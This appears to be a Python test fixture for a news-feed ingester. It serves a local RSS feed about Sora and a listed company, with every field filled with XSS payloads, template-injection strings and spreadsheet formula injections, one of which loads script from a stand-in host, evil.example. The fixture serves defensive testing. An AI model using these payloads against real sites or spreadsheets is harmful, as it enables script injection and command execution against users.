"""A feed that attacks in every field, read and loaded by the real way."""

import contextlib
import datetime as dt
import http.server
import threading
from xml.sax.saxutils import escape, quoteattr

from newsvane import ingest
from newsvane.settings import read_settings

NOW = dt.datetime(2024, 2, 26, 0, 30, tzinfo=dt.UTC)
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</title><script src=//evil.example/x.js></script>",
    "{{ 7 * 7 }}${7*7}<%= 7*7 %>",
    "<a href=javascript:alert(1)>点</a>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "\u202e<b>反向</b>",
)
LINKS = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
)
FORMULAS = ('=HYPERLINK("http://evil.example","点")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\t=1+1")


def feed():
    """Items about Sora and a listed company, so that every page has something of them to show."""
    items = []
    for number, attack in enumerate((*ATTACKS, *FORMULAS)):
        link = LINKS[number % len(LINKS)] if number % 2 else f"https://evil.example/{number}?a={attack}"
        title = f"{attack} Sora 概念股中文在线（300364）大涨，第 {number} 篇"
        body = f"{attack} OpenAI 的文生视频模型 Sora 发布，人工智能公司中文在线（300364）回应。{attack}"
        items.append(
            f"<item><title>{escape(title)}</title><link>{escape(link)}</link><guid>{number}{escape(attack)}</guid>"
            f"<author>{escape(attack)}</author><dc:creator>{escape(attack)}</dc:creator>"
            f"<category>{escape(attack)}</category><source url={quoteattr(link)}>{escape(attack)}</source>"
            f"<pubDate>Sun, 25 Feb 2024 {number:02d}:00:00 +0800</pubDate>"
            f"<description>{escape(escape(body))}</description></item>"
        )
    return (
        '<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        f"<title>{escape(ATTACKS[0])}</title>{''.join(items)}</channel></rss>"
    )


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path == "/broken.xml":
            self.send_response(500, "<script>alert(1)</script>")
            self.end_headers()
            self.wfile.write(b"<script>alert(1)</script>")
            return
        body = feed().encode() if self.path == "/feed.xml" else b""
        self.send_response(200 if body else 404)
        self.send_header("Content-Type", "application/rss+xml; charset=utf-8")
        self.send_header("ETag", '"<script>alert(1)</script>"')
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def served():
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def ingested(folder, checkout):
    """The settings of a data folder that holds the feed, and a source that fails with an attack for a reason."""
    sources = folder / "sources.toml"
    with served() as address:
        sources.write_text(
            "".join(
                f'[[source]]\nid = "{name}"\nname = "<script>alert(1)</script>{name}"\nurl = "{address}/{name}.xml"\n'
                f'homepage = "https://evil.example/"\nallow_private = true\nfetch_pages = false\n\n'
                for name in ("broken", "feed")
            ),
            encoding="utf-8",
        )
        settings = read_settings(
            {
                "NEWSVANE_ROOT": str(checkout),
                "NEWSVANE_DATA": str(folder / "data"),
                "NEWSVANE_SOURCES": str(sources),
            }
        )
        ingest.run(settings, NOW, all_sources=True)
    return settings
